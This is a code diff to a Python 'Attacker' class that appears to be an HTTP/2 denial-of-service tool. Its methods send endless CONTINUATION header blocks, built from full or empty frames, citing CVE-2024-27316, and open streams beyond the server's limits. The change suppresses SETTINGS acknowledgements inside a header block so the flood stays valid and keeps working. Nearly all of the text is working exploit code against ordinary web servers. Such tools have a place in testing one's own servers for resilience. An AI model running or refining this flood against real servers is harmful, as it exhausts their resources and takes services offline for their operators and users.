@@ -100,11 +100,12 @@ class Attacker:
     def continuations(self) -> Report:
         """Header blocks that never end, of full frames (CVE-2024-27316)."""
         more = frame(CONTINUATION, 0, 1, hpack_literal("x", "y" * 250) * (MAX_FRAME // 256))
-        return self._flood("continuations", "frames", 4, 2000, {}, self._endless_block(more))
+        return self._flood("continuations", "frames", 4, 2000, {"acknowledges": False}, self._endless_block(more))
 
     def empty_continuations(self) -> Report:
         """Header blocks that never end, of empty frames."""
-        return self._flood("empty-continuations", "frames", 4, 200000, {}, self._endless_block(frame(CONTINUATION, 0, 1)))
+        return self._flood("empty-continuations", "frames", 4, 200000, {"acknowledges": False},
+                           self._endless_block(frame(CONTINUATION, 0, 1)))
 
     def unacknowledged_settings(self) -> Report:
         """Streams beyond the server's limits, which hold for who has acknowledged them."""
@@ -134,6 +135,7 @@ class Attacker:
         return make
 
     def _endless_block(self, more: bytes) -> Callable[[Connection], bytes]:
+        """(In a block nothing else may be sent, no acknowledgement either.)"""
         call = self.target.headers()
         return lambda connection: more if connection.last_stream else frame(HEADERS, 0, connection.next_stream(), call)
 
@@ -157,7 +159,7 @@ class Attacker:
             while left > 0 and in_vain < 100:
                 with Connection(self.target, **manner) as connection:
                     sent = self._send(connection, left, make)
-                    if connection.reads:
+                    if connection.reads and connection.acknowledges:
                         connection.settle()
                     else:
                         connection.poll()
